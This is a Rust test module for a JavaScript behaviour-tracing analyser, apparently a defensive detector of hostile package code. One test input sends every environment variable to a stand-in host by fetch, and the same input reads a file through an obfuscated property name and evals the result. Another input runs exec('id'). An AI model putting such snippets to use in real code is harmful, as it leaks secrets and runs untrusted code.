//! What programs do, told from their text. Each case is a sentence, a program, and
//! what must be found; or a program that looks like it, in which nothing must be.

mod benign;
mod code;
mod data;
mod evasion;
mod exhaustion;
mod files;
mod hostile;
mod network;
mod process;

use std::borrow::Cow;

use ringfence_analysis::{
    Coverage, Effect, Hiding, Role, Shape, Source, SourceFile, Trace, Tree, Value, When, javascript,
};

/// One program and what it does.
pub(crate) struct Case {
    pub(crate) what: &'static str,
    pub(crate) source: &'static str,
    pub(crate) effect: Effect,
    pub(crate) api: &'static str,
    /// A text that must be among the arguments; empty for none.
    pub(crate) holds: &'static str,
}

pub(crate) const fn case(
    what: &'static str,
    effect: Effect,
    api: &'static str,
    holds: &'static str,
    source: &'static str,
) -> Case {
    Case { what, source, effect, api, holds }
}

pub(crate) fn trace_of(files: &[(&str, &str)]) -> Trace {
    let files = files
        .iter()
        .map(|(path, source)| SourceFile {
            path: (*path).to_owned(),
            bytes: Cow::Owned(source.as_bytes().to_vec()),
        })
        .collect();
    let tree = Tree::new(files);
    let scripts: Vec<_> = tree
        .files()
        .filter(|(_, file)| {
            [".js", ".ts", ".mjs", ".cjs", ".tsx", ".jsx"]
                .iter()
                .any(|end| file.path.ends_with(end))
        })
        .map(|(id, _)| id)
        .collect();
    javascript::trace(&tree, &scripts)
}

pub(crate) fn trace_one(source: &str) -> Trace {
    trace_of(&[("index.js", source)])
}

fn texts(value: &Value, all: &mut Vec<String>) {
    match &value.shape {
        Shape::Text(text) => all.push(text.to_string()),
        Shape::Partial { prefix, rest } => {
            all.push(prefix.to_string());
            all.extend(rest.iter().map(ToString::to_string));
        }
        Shape::Bytes(bytes) => all.push(String::from_utf8_lossy(bytes).into_owned()),
        Shape::Number(number) => all.push(number.to_string()),
        Shape::List(list) => list.iter().for_each(|value| texts(value, all)),
        Shape::Record(fields) => fields.iter().for_each(|(_, value)| texts(value, all)),
        Shape::Api(name) => all.push(name.to_string()),
        _ => {}
    }
}

pub(crate) fn does(trace: &Trace, effect: Effect, api: &str, holds: &str) -> bool {
    trace.events.iter().any(|event| {
        if event.effect != effect || &*event.api != api {
            return false;
        }
        let mut all = Vec::new();
        for argument in &event.arguments {
            texts(&argument.value, &mut all);
        }
        holds.is_empty() || all.iter().any(|text| text.contains(holds))
    })
}

/// Whether something of this source reaches an event of this effect.
pub(crate) fn flows(trace: &Trace, source: Source, effect: Effect) -> bool {
    trace.events.iter().filter(|event| event.effect == effect).any(|event| {
        event
            .arguments
            .iter()
            .any(|argument| argument.value.origins.iter().any(|origin| origin.source == source))
    })
}

pub(crate) fn hides(trace: &Trace, effect: Effect, hiding: Hiding) -> bool {
    trace.events.iter().any(|event| event.effect == effect && event.hiding.contains(&hiding))
}

pub(crate) fn check(cases: &[Case]) {
    let mut missed = Vec::new();
    for case in cases {
        let trace = trace_one(case.source);
        if !does(&trace, case.effect, case.api, case.holds) {
            let found: Vec<String> = trace
                .events
                .iter()
                .map(|event| {
                    let mut all = Vec::new();
                    event.arguments.iter().for_each(|argument| texts(&argument.value, &mut all));
                    format!("{:?} {} {all:?}", event.effect, event.api)
                })
                .collect();
            missed.push(format!(
                "{}\n  wanted {:?} {} {:?}\n  found {found:#?}\n  coverage {:?}",
                case.what, case.effect, case.api, case.holds, trace.coverage
            ));
        }
    }
    assert!(
        missed.is_empty(),
        "{} of {} missed:\n{}",
        missed.len(),
        cases.len(),
        missed.join("\n")
    );
}

#[test]
fn code_that_runs_on_import_is_told_from_code_that_waits_to_be_called() {
    let trace = trace_one(
        "const { exec } = require('child_process');\nexec('on load');\n\
         module.exports = () => exec('on call');",
    );
    let when = |holds: &str| {
        trace
            .events
            .iter()
            .find(|event| {
                let mut all = Vec::new();
                event.arguments.iter().for_each(|argument| texts(&argument.value, &mut all));
                all.iter().any(|text| text == holds)
            })
            .map(|event| event.when)
    };
    assert_eq!(when("on load"), Some(When::Load));
    assert_eq!(when("on call"), Some(When::Call));
}

#[test]
fn the_same_bytes_give_the_same_trace() {
    let source = "for (const k in process.env) fetch('http://a.example/?' + k + process.env[k]);\n\
                  const f = require('fs'); f[['read','File'].join('')]('x', d => eval(d));";
    let first = trace_one(source);
    for _ in 0..3 {
        assert_eq!(trace_one(source).events, first.events);
    }
}

#[test]
fn what_a_file_does_only_when_it_is_started_is_not_done_on_load() {
    let when = |source: &str| {
        let trace = trace_one(source);
        let event = trace.events.iter().find(|event| event.effect == Effect::Shell);
        event.map(|event| event.when)
    };
    let main = "function main() { require('child_process').exec('id') }\n";
    for guard in
        ["require.main === module", "!module.parent", "module == require.main", "import.meta.main"]
    {
        assert_eq!(when(&format!("{main}if ({guard}) main()")), Some(When::Call), "{guard}");
    }
    assert_eq!(when(&format!("{main}if (require.main !== module) main()")), Some(When::Load));
    // A program that says what runs it is nothing but a program.
    let program = format!("#!/usr/bin/env node\n{main}if (require.main === module) main()");
    assert_eq!(when(&program), Some(When::Load));
    // The guard hides nothing that also happens otherwise.
    let both = format!("{main}if (require.main === module) main()\nmain()");
    assert_eq!(when(&both), Some(When::Load));
}

#[test]
fn bytes_that_are_no_text_are_no_program() {
    let of = |bytes: Vec<u8>| {
        let tree = Tree::new(vec![SourceFile { path: "a.js".into(), bytes: bytes.into() }]);
        let files: Vec<_> = tree.files().map(|(id, _)| id).collect();
        javascript::trace(&tree, &files).coverage.remove(0).1
    };
    let noise: Vec<u8> =
        (0..20_000u32).map(|at| at.wrapping_mul(2_654_435_761).to_le_bytes()[1]).collect();
    assert!(matches!(of(noise), Coverage::Unparsed { .. }));
    let mut few: Vec<u8> = b"/*".to_vec();
    few.extend([1u8; 400]);
    few.extend(b"*/ eval('x')");
    // An engine runs this, so it is read.
    assert_eq!(of(few), Coverage::Whole);
}

#[test]
fn a_port_is_no_host_and_a_path_is_no_port() {
    let roles = |source: &str| -> Vec<Role> {
        let trace = trace_one(source);
        let event = trace.events.iter().find(|event| event.effect == Effect::Connect);
        event.unwrap().arguments.iter().map(|argument| argument.role).collect()
    };
    assert_eq!(roles("require('net').connect(80, 'a.example')"), [Role::Port, Role::Host]);
    assert_eq!(roles("require('net').connect('/run/a.sock')"), [Role::Path]);
    assert_eq!(roles("require('net').connect('80')"), [Role::Port]);
}
